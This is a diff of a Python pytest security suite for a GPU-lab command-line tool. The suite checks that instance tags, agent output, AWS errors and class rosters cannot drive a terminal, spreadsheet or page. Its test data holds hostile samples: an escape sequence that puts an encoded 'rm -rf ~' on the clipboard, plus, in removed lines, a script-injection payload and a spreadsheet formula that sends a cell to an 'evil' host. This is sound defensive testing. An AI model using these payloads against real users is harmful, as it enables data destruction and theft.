@@ -1,78 +1,36 @@
-"""What strangers may write (tags, names, errors, rosters, notebooks' servers) and we show: it drives no terminal, page or spreadsheet."""
+"""What strangers may write (tags, AWS's codes, agents' words, logs, rosters) and commands show: it drives no terminal."""
 
 from __future__ import annotations
 
 import csv
-import importlib.util
-import io
+import json
+import os
 import re
-import unicodedata
-from datetime import UTC, datetime
-from html.parser import HTMLParser
+import sys
 from pathlib import Path
-from types import SimpleNamespace
 
 import pytest
 from tests.aws.conftest import UBUNTU, a_client
+from tests.aws.security.hostile import DRIVING, FORGED, SENT, drives, unfiltered
 
+from gpulab.cli.context import Context
 from gpulab.cli.main import run
-from gpulab.fleet.ticket import Ticket
-from gpulab.fleets.members import Member
-from gpulab.launch.running import browser
-from gpulab.model.fleet import AccountRef, Seat
-from gpulab.remote.supervisor import Gone
-from gpulab.remote.tunnel import gone_page
-from gpulab.view.handout import Handed, handout_html, merge_csv
+from gpulab.course.roster import owner_id
+from gpulab.fleet.seats import seats_of
+from gpulab.launch.upkeep import sweep
+from gpulab.remote import hostkeys
+from gpulab.remote.host import Host
+from gpulab.remote.process import Completed
+from gpulab.store.courses import read_classroom
+from gpulab.store.home import Home
 
 CHECKOUT = Path(__file__).parents[3]
-_spec = importlib.util.spec_from_file_location(
-    "fleet_builders", CHECKOUT / "tests" / "unit" / "fleet_builders.py"
-)
-build = importlib.util.module_from_spec(_spec)
-_spec.loader.exec_module(build)
-
-# Clear the screen, fill the clipboard, a C1 sequence, go back over the line, write from right to left.
-DRIVING = "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\rok\u202e\u2066"
-# What of it can stand in the XML that AWS answers in: C1 and bidi, which terminals obey as well.
-SENT = "\x9b2J\x9d52;c;cm0gLXJmIH4=\x9c\x9b31mok\u202e\u2066"
-SCRIPT = '"><script>fetch("//evil")</script><img src=x onerror=alert(1)>'
-FORMULA = '=HYPERLINK("http://evil/?"&A1,"mark")'
-NOW = datetime(2026, 9, 7, 12, 0, tzinfo=UTC)
 
 
-def drives(text):
-    """What of a text a terminal would obey."""
-    bidi = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
-    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in bidi]
-
-
-class Live(HTMLParser):
-    """What in a page would run or ask for something, as a browser's parser sees it."""
-
-    def __init__(self, page):
-        super().__init__()
-        self.found = []
-        self.feed(page)
-        self.close()
-
-    def handle_starttag(self, tag, attrs):
-        if tag in ("script", "img", "iframe", "object", "svg", "form", "base"):
-            self.found.append(tag)
-        self.found += [name for name, _ in attrs if name.startswith("on")]
-        self.found += [
-            v for n, v in attrs if n in ("href", "src") and not v.startswith("http://127.")
-        ]
-
-
-# -- terminals ----------------------------------------------------------------------------------------------------------------
-
-
-@pytest.fixture
-def hostile(sandbox):
-    """An instance in our account whose tags somebody else wrote: everybody in a shared account may tag their own."""
+def launch(**tags):
+    """Start an instance in our account with tags as somebody else wrote them: everybody in a shared account may tag their own."""
     image = a_client("ssm").get_parameter(Name=UBUNTU)["Parameter"]["Value"]
-    tags = {"name": FORMULA, "owner": "me", "launch": "l1", "env": SENT, "lab": SENT}
-    a_client("ec2").run_instances(
+    launched = a_client("ec2").run_instances(
         ImageId=image,
         InstanceType="g4dn.xlarge",
         MinCount=1,
@@ -84,64 +42,259 @@ def hostile(sandbox):
             }
         ],
     )
-    sandbox.advance(20)
+    return launched["Instances"][0]["InstanceId"]
+
+
+@pytest.fixture
+def hostile(sandbox, monkeypatch):
+    """An instance that is hostile in all it can say: in its tags and on its console, through its agent, in its log."""
+    instance = launch(name=SENT, owner="me", launch="l1", env=SENT, lab=SENT)
+    sandbox.advance(90)
+    monkeypatch.setattr(Host, "run", _told)
+    monkeypatch.setattr(Host, "stream", lambda self, command, **_: iter([f"boot {DRIVING}"]))
+    monkeypatch.setattr("gpulab.sandbox.console.console_text", lambda *_, **__: f"boot {DRIVING}")
+    # All of them take four seconds, and ours are in one.
+    monkeypatch.setattr(sweep, "enabled_regions", lambda *_, **__: ("us-east-1",))
+    return instance
+
+
+def _told(self, command, **_):
+    """Answer as a student can who is root there."""
+    assert ["gpulab-agent", "status"] == list(command)
+    phase = {"name": f"data {DRIVING}", "state": "failed", "message": f"no\n{DRIVING}"}
+    status = {
+        "version": 1,
+        "at": "2026-11-16T09:10:00Z",
+        "phases": [phase],
+        "gpu": [{"name": DRIVING}],
+        "keep": {"failed": [f"{DRIVING} {FORGED}"], "skipped": [{"path": "a", "reason": FORGED}]},
+    }
+    return Completed(0, json.dumps(status).encode(), "")
 
 
 def shown(capsys, *arguments):
-    run(list(arguments))
+    capsys.readouterr()
+    code = run(list(arguments))
     said = capsys.readouterr()
-    return said.out + said.err
+    return code, said.out + said.err
+
+
+def weak_and_ours(capsys, *arguments):
+    """Run one command twice: with the filter taken out, and as it is."""
+    # Ours first: a module that was imported meanwhile would keep the hole.
+    code, ours = shown(capsys, *arguments)
+    with unfiltered():
+        other, weak = shown(capsys, *arguments)
+    assert code == other
+    assert "unexpected" not in ours + weak
+    return weak, ours
 
 
 @pytest.mark.parametrize(
     "arguments",
     [
-        ("ls", "--quick"),
+        ("ls",),
         ("ls", "--quick", "--csv"),
-        ("ls", "--quick", "--json"),
-        ("show", FORMULA),
+        ("show", "INSTANCE"),
+        ("logs", "INSTANCE"),
+        ("logs", "INSTANCE", "--console"),
         ("sweep",),
-        ("stop", DRIVING, "--yes"),
-        ("up", DRIVING, "--dry-run"),
+        ("sweep", "--csv"),
     ],
-    ids=lambda words: " ".join(w for w in words if w.isascii() and w.isprintable()),
+    ids=" ".join,
 )
-def test_no_command_lets_a_tag_or_a_name_drive_the_terminal(hostile, capsys, arguments):
-    """A tag can clear the screen, forge a line, or fill the clipboard with a command (OSC 52)."""
-    text = shown(capsys, *arguments)
+def test_no_command_lets_an_instance_drive_the_terminal(hostile, capsys, arguments):
+    """A tag or an agent can clear the screen, forge a line, or fill the clipboard with a command (OSC 52)."""
+    words = [hostile if word == "INSTANCE" else word for word in arguments]
 
-    assert len(drives(DRIVING)) > 5 < len(drives(SENT))
-    assert [] == drives(text)
-    assert text.strip() != ""
+    weak, ours = weak_and_ours(capsys, *words)
 
-
-def test_what_aws_says_in_an_error_drives_nothing(sandbox, capsys):
-    """Error texts hold parts of the request, and so whatever was in a tag or a name."""
-    sandbox.refuse("DescribeInstances", "InvalidParameterValue", message=f"bad {SENT} value")
-
-    text = shown(capsys, "ls")
-
-    assert "InvalidParameterValue" in text
-    assert [] == drives(text)
+    assert {"\x9b", "\u202e"} <= set(drives(weak))
+    assert [] == drives(ours)
+    assert "52;c;cm0gLXJmIH4=" in ours
 
 
-def test_a_roster_drives_nothing(tmp_path, capsys):
-    """Students choose how their name is written; a teacher looks at it in a terminal."""
-    run(["course", "new", str(tmp_path / "course")])
-    roster = tmp_path / "course" / "roster.csv"
-    head = roster.read_text().splitlines()[0].split(",")
-    row = dict.fromkeys(head, "") | {"id": "s1", "name": f"Ann {DRIVING}", "email": "a@b.example"}
-    with roster.open("w", newline="") as stream:
-        writer = csv.DictWriter(stream, head)
-        writer.writeheader()
-        writer.writerow(row)
-    capsys.readouterr()
+def test_an_agent_forges_no_line_of_show(hostile, capsys):
+    """What is left out and why are the instance's words; a line that begins as one of ours does would be read as ours."""
+    weak, ours = weak_and_ours(capsys, "show", hostile)
 
-    text = shown(capsys, "course", "check", str(tmp_path / "course"))
-    text += shown(capsys, "course", "show", str(tmp_path / "course"))
+    assert 1 <= len(re.findall("^error: your key", weak, re.M))
+    assert [] == re.findall("^error: your key", ours, re.M)
+    assert "error: your key was stolen" in ours
 
-    assert [] == drives(text)
-    assert len(text) > 40
+
+def test_the_watched_list_is_drawn_through_the_filter(hostile, capsys, monkeypatch):
+    """`ls -w` writes its own control characters, so nobody would see a stranger's among them."""
+    own = re.compile(r"\x1b\[[KHJ]|^\x1b\[2J")
+    monkeypatch.setattr(Context, "sleep", staticmethod(_interrupted))
+
+    def watched():
+        monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+        code, text = shown(capsys, "ls", "-w")
+        return code, own.sub("", text)
+
+    ours = watched()
+    with unfiltered():
+        weak = watched()
+
+    assert (130, 130) == (weak[0], ours[0])
+    assert {"\x9b", "\u202e"} <= set(drives(weak[1]))
+    assert [] == drives(ours[1])
+    assert "52;c;cm0gLXJmIH4=" in ours[1]
+
+
+def _interrupted(_seconds):
+    raise KeyboardInterrupt
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [("stop", DRIVING, "--yes"), ("up", DRIVING, "--dry-run"), ("show", DRIVING), (DRIVING,)],
+    ids=["stop", "up", "show", "command"],
+)
+def test_what_was_typed_or_pasted_is_not_obeyed_when_it_is_refused(capsys, arguments):
+    """A name copied from a page is quoted in the refusal."""
+    weak, ours = weak_and_ours(capsys, *arguments)
+
+    assert {"\x1b", "\x9b", "\u202e"} <= set(drives(weak))
+    assert [] == drives(ours)
+    assert "52;c;cm0gLXJmIH4=" in ours
+
+
+@pytest.mark.parametrize("arguments", [("ls",), ("sweep",), ("up", "week4", "--yes")], ids=" ".join)
+def test_what_aws_answers_with_drives_nothing(sandbox, capsys, monkeypatch, arguments):
+    """Whoever answers in AWS's place, such as a proxy of the campus, chooses the code that we show."""
+    monkeypatch.setattr(sweep, "enabled_regions", lambda *_, **__: ("us-east-1",))
+    sandbox.refuse("DescribeInstances", SENT, message=f"bad {SENT} value", status=400)
+
+    weak, ours = weak_and_ours(capsys, *arguments)
+
+    assert {"\x9b", "\u202e"} <= set(drives(weak))
+    assert [] == drives(ours)
+    assert "52;c;cm0gLXJmIH4=" in ours
+
+
+def test_the_report_of_an_unexpected_failure_drives_nothing(capsys, monkeypatch):
+    """It is read with `cat`, and an exception quotes what it failed on, even what could not be written as UTF-8."""
+    errors = Home.of(os.environ).errors
+    monkeypatch.setattr("sys.stdin", _Broken())
+
+    def kept():
+        code = run(["init", "--paste"])
+        (file,) = errors.iterdir()
+        text = file.read_text(encoding="utf-8")
+        file.unlink()
+        return code, text
+
+    ours = kept()
+    with unfiltered():
+        weak = kept()
+    monkeypatch.setattr(_Broken, "text", "\udc80")
+    lone = kept()
+
+    assert (1, 1, 1) == (weak[0], ours[0], lone[0])
+    assert {"\x1b", "\x9b", "\u202e"} <= set(drives(weak[1]))
+    assert [] == drives(ours[1]) + drives(lone[1])
+    assert "RuntimeError: cannot read" in ours[1]
+    assert "RuntimeError: cannot read �" in lone[1]
+
+
+class _Broken:
+    text = DRIVING
+
+    def read(self, size=-1):
+        raise RuntimeError(f"cannot read {self.text}")
+
+    def isatty(self):
+        return False
+
+
+# -- classes ------------------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def course(tmp_path, monkeypatch, capsys):
+    """A course in one account, with a roster of one row that says who is in it."""
+    folder = tmp_path / "course"
+    run(["course", "new", str(folder), "--shared"])
+    plan = (folder / "course.toml").read_text()
+    plan = plan.replace('"eu-west-1", "eu-central-1"', '"us-east-1"')
+    (folder / "course.toml").write_text(plan)
+    monkeypatch.setenv("GPULAB_COURSE", str(folder))
+
+    def enter(**cells):
+        row = {"id": "s1", "name": "Ann", "email": "a@b.example", "group": "g1", **cells}
+        with (folder / "roster.csv").open("w", newline="", encoding="utf-8") as stream:
+            writer = csv.DictWriter(stream, row)
+            writer.writeheader()
+            writer.writerow(row)
+        return folder
+
+    return enter
+
+
+@pytest.mark.parametrize("column", ["id", "email"])
+def test_a_roster_drives_nothing(course, capsys, column):
+    """Students choose how their name is written; what is wrong with it is quoted in a teacher's terminal."""
+    course(**{column: DRIVING})
+
+    weak, ours = weak_and_ours(capsys, "course", "check")
+
+    assert {"\x1b", "\x9b", "\u202e"} <= set(drives(weak))
+    assert [] == drives(ours)
+    assert f"roster.csv:2: `{column}` holds characters that cannot be seen" in ours
+
+
+def test_a_rosters_cell_begins_no_line_of_its_own(course, capsys):
+    """A cell in quotes may hold a line break; below it stands what looks like a word of gpulab's."""
+    course(id=FORGED)
+
+    weak, ours = weak_and_ours(capsys, "course", "check")
+
+    assert 1 == len(re.findall("^error: your key", weak, re.M))
+    assert [] == re.findall("^error: your key", ours, re.M)
+    assert "error: your key was stolen` cannot be an id" in ours
+
+
+def test_a_hostile_roster_goes_no_further(course, capsys):
+    """Whoever cannot be seen in the teacher's list is in no lab: the filter is the second wall, not the first."""
+    course(name=f"Ann {DRIVING}")
+
+    code, text = shown(capsys, "course", "show")
+
+    assert (2, []) == (code, drives(text))
+    assert "1 problem" in text
+
+
+@pytest.mark.parametrize(
+    "arguments", [("ls",), ("ls", "--csv"), ("watch",)], ids=lambda words: " ".join(words)
+)
+def test_no_instance_of_a_class_drives_its_teachers_terminal(
+    course, sandbox, capsys, monkeypatch, arguments
+):
+    """Thirty students are root on what this table asks."""
+    home, folder = Home.of(os.environ), course()
+    room = read_classroom(home, folder)
+    lab = room.course.labs[0]
+    (seat,) = seats_of(room.course, lab, room.roster.students, secret=room.secret)
+    assert seat.owner == owner_id("a@b.example", secret=room.secret)
+    instance = launch(
+        name=seat.name, owner=seat.owner, course=room.course.id, lab=lab.id, launch="l1", env=SENT
+    )
+    sandbox.advance(90)
+    known = home.folder("default").known_hosts
+    hostkeys.pin(known, instance, [hostkeys.HostKey(bytes(32))])
+    monkeypatch.setattr(Host, "run", _told)
+    monkeypatch.setattr(Context, "sleep", staticmethod(_interrupted))
+
+    weak, ours = weak_and_ours(capsys, "fleet", arguments[0], lab.id, *arguments[1:])
+
+    assert {"\x1b", "\x9b", "\u202e"} <= set(drives(weak))
+    assert [] == drives(ours)
+    assert "52;c;cm0gLXJmIH4=" in ours
+
+
+# -- all of it ----------------------------------------------------------------------------------------------------------------
 
 
 def test_nothing_is_written_past_the_filter():
@@ -168,90 +321,3 @@ def test_nothing_is_written_past_the_filter():
     }
 
     assert set(own) == found
-
-
-# -- spreadsheets -------------------------------------------------------------------------------------------------------------
-
-
-def handed(name="Ann", *, lab="week4"):
-    student = build.students(1)[0]
-    student = type(student)(**{**vars(student), "name": name, "id": name, "email": name})
-    seat = Seat("week4-s1", "s1", "s1", "", (student,), AccountRef("default", "", "", ""))
-    ticket = Ticket(
-        name="week4-s1",
-        instance_id="i-0123456789abcdef0",
-        address="203.0.113.9",
-        user="ubuntu",
-        host_key="AAAA",
-        private_key="",
-        ends_at=NOW,
-    )
-    return Handed(Member(seat.account, seat, None), ticket, "s1.ticket")
-
-
-def test_no_table_holds_a_formula(hostile, capsys):
-    """A cell that begins with `=` runs when a teacher opens the file; quoting it keeps the text and takes the meaning."""
-    listing = list(csv.reader(io.StringIO(shown(capsys, "ls", "--quick", "--csv"))))
-    mail = list(csv.reader(io.StringIO(merge_csv([handed(FORMULA)], lab="@SUM(A1)"))))
-
-    cells = [cell for row in [*listing, *mail] for cell in row]
-    assert FORMULA.startswith("=")
-    assert [] == [cell for cell in cells if cell.strip()[:1] in tuple("=+-@")]
-    assert 2 <= sum(FORMULA in cell for cell in cells)
-
-
-def test_every_writer_of_tables_quotes_its_cells():
-    """A new table is a new hole unless it goes the same way."""
-    package = CHECKOUT / "src" / "gpulab"
-    writers = {
-        path.relative_to(package).as_posix(): "csv_cell(" in path.read_text(encoding="utf-8")
-        for path in package.rglob("*.py")
-        if re.search(r"csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8"))
-    }
-
-    assert dict.fromkeys(writers, True) == writers
-    assert "view/console.py" in writers
-
-
-# -- pages --------------------------------------------------------------------------------------------------------------------
-
-
-def test_the_handout_shows_names_as_texts():
-    """A student's name comes from a form they filled in themselves."""
-    from jinja2 import Environment, PackageLoader
-
-    source = Environment(loader=PackageLoader("gpulab", "view"), autoescape=False)  # noqa: S701 - the weak set-up
-    weak = source.get_template("handout.html.jinja").render(
-        title=SCRIPT, css="", style_hash="", pages=[]
-    )
-
-    page = handout_html([handed(SCRIPT)], title=f"Lab {SCRIPT}")
-
-    assert {"script", "img", "onerror"} <= set(Live(weak).found)
-    assert [] == Live(page).found
-    assert "default-src &#39;none&#39;" in page or "default-src 'none'" in page
-
-
-@pytest.mark.parametrize("is_final", [True, False])
-def test_the_page_of_a_gone_instance_shows_the_reason_as_a_text(is_final):
-    """The reason is AWS's, or the instance's own."""
-    page = gone_page(Gone(f"ended: {SCRIPT}", is_final)).decode()
-
-    head, _, body = page.partition("\r\n\r\n")
-    assert {"script", "img"} <= set(Live(f"<p>{SCRIPT}</p>").found)
-    assert [] == Live(body).found
-    assert "default-src 'none'" in head
-
-
-def test_the_page_that_leads_to_jupyter_takes_the_token_as_a_text(tmp_path, monkeypatch):
-    """The token is what the instance says it is, and root there is whoever wrote the notebook; the page is opened as a local file."""
-    opened = []
-    monkeypatch.setattr(browser.webbrowser, "open", lambda uri: opened.append(uri))
-
-    browser.lead(tmp_path, SimpleNamespace(url="http://127.0.0.1:8888/lab"), SCRIPT)
-
-    (file,) = tmp_path.glob("open-*.html")
-    page = file.read_text(encoding="utf-8")
-    assert {"script", "img"} <= set(Live(f'<a href="{SCRIPT}">').found)
-    assert [] == Live(page).found
-    assert [file.as_uri()] == opened
